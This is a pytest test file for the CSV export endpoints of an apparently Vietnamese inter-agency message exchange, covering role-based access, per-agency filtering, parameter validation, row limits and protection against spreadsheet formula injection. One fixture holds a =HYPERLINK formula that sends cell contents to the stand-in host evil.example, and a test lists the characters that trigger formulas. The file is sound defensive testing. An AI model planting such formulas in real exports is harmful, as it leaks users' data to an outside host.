"""Lists as CSV: what is in them, for whom, and that no spreadsheet runs any of it."""

import csv
import io

import pytest

from lienthong.access.rights import Role
from lienthong.channels.port import Answer, Outcome
from lienthong.flows.hints import DELIVER, hint
from lienthong.operations import exporting
from mappings import load_agencies
from tests.contract.store.test_operators_api import MAPPING, SECRET, Api

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"xem")'
REJECTED = Answer(outcome=Outcome.REJECTED, code="-1", message=SECRET)


@pytest.fixture
def api(exchange, tmp_path, event, record):
    """Have m1 of land refused by the portal, and m2 of health, whose code is a formula, taken."""
    (tmp_path / "mappings").mkdir()
    (tmp_path / "mappings" / "land.yaml").write_text(MAPPING, encoding="utf-8")
    exchange.portal.answers = [REJECTED]
    for agency, made in (("land", event("m1")), ("health", event("m2", FORMULA))):
        due = exchange.take(record(1, made), agency=agency)
        exchange.broker.publish(DELIVER, [hint(code, at=exchange.clock()) for code in due])
        exchange.step(2)
        exchange.clock.tick(seconds=1)
    return Api(exchange, load_agencies(tmp_path / "mappings"), tmp_path / "data")


def table(answer):
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    assert answer.content.startswith(b"\xef\xbb\xbf")
    head, *rows = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    return head, rows


def ids(answer):
    return [row[0] for row in table(answer)[1]]


def test_messages_come_as_their_list_has_them_the_latest_change_first(api):
    token = api.token(Role.VIEWER)

    head, rows = table(api.ask("/messages/export?language=en", token))

    assert head[:5] == ["Message id", "Agency", "Dossier", "Packet", "State"]
    assert [row[0] for row in rows] == ["m2", "m1"]
    assert rows[1][1:5] == ["land", "D-1", "DongBoHoSoMC", "parked"]
    assert rows[1][8] == "2026-03-02 15:00:00"
    assert SECRET not in str(rows)
    assert ids(api.ask("/messages/export?state=parked&format=csv", token)) == ["m1"]
    assert ids(api.ask("/messages/export?dossier=nothing", token)) == []
    assert table(api.ask("/messages/export", token))[0][2] == "Mã hồ sơ"


def test_nothing_that_an_agency_writes_is_a_formula(api):
    _, rows = table(api.ask("/messages/export", api.token(Role.VIEWER)))
    _, log = table(api.ask("/audit/export", api.token(Role.AUDITOR)))

    assert rows[0][2].startswith("'=HYPERLINK(")
    cells = [cell for row in (*rows, *log) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_each_sees_their_agencies_alone(api):
    land = api.token(Role.VIEWER, Role.AUDITOR, agencies=["land"])

    assert ids(api.ask("/messages/export", land)) == ["m1"]
    assert ids(api.ask("/messages/export?agency=health", land)) == []
    assert {row[1] for row in table(api.ask("/problems/export", land))[1]} <= {"land"}
    about = {row[4] for row in table(api.ask("/audit/export", land))[1]}
    assert "m1" in about
    assert "m2" not in about


@pytest.mark.parametrize(
    ("role", "path"),
    [
        (Role.ADMINISTRATOR, "/messages/export"),
        (Role.ADMINISTRATOR, "/problems/export"),
        (Role.OPERATOR, "/audit/export"),
    ],
)
def test_lists_are_for_who_may_see_them(api, role, path):
    assert api.ask(path, api.token(role)).status_code == 403


@pytest.mark.parametrize(
    "asked",
    ["person=012345678901", "format=xlsx", "state=cooked", "since=yesterday", "language=%00"],
)
def test_what_cannot_be_exported_is_refused(api, asked):
    assert api.ask(f"/messages/export?{asked}", api.token(Role.VIEWER)).status_code == 422


@pytest.mark.parametrize("name", ["why", "dossier", "agency", "problem", "text"])
def test_what_no_database_can_hold_is_no_trouble_of_ours(api, name):
    answer = api.ask(f"/messages/export?{name}=%00", api.token(Role.VIEWER))

    assert answer.status_code in (200, 422)


def test_problems_come_with_their_cause_and_counts(api):
    _, rows = table(api.ask("/problems/export", api.token(Role.VIEWER)))

    found = [(row[1], row[4], row[8], row[9]) for row in rows]
    assert found == [("land", "'-1", "open", "1")]


def test_a_long_list_is_read_in_parts_and_its_cut_is_told(api, monkeypatch):
    monkeypatch.setattr(exporting, "AT_ONCE", 1)
    token = api.token(Role.VIEWER)
    assert ids(api.ask("/messages/export", token)) == ["m2", "m1"]

    monkeypatch.setattr(exporting, "MOST_ROWS", 1)
    first, cut = table(api.ask("/messages/export", token))[1]

    assert first[0] == "m2"
    assert "thu hẹp" in cut[0]


def test_no_more_lists_are_made_at_once_than_there_are_turns(api):
    token = api.token(Role.VIEWER)
    with exporting._TURNS.taking(), exporting._TURNS.taking():
        assert api.ask("/messages/export", token).json()["code"] == "download.busy"

    assert ids(api.ask("/messages/export", token)) == ["m2", "m1"]
